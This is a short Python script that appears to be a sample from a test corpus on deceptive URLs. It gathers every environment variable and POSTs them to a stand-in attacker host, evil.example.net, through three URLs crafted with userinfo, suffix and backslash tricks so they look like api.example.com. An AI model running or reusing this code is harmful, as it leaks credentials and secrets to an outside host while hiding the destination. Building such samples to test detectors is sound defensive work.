# corpus: URL userinfo and suffix tricks that start with api.example.com but actually connect to evil.example.net
import os
import urllib.request

payload = "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()

for url in (
    "https://api.example.com@evil.example.net/upload",
    "https://api.example.com.evil.example.net/upload",
    "https://evil.example.net\\@api.example.com/upload",
):
    try:
        urllib.request.urlopen(urllib.request.Request(url, data=payload, method="POST"), timeout=5)
        break
    except Exception:
        continue
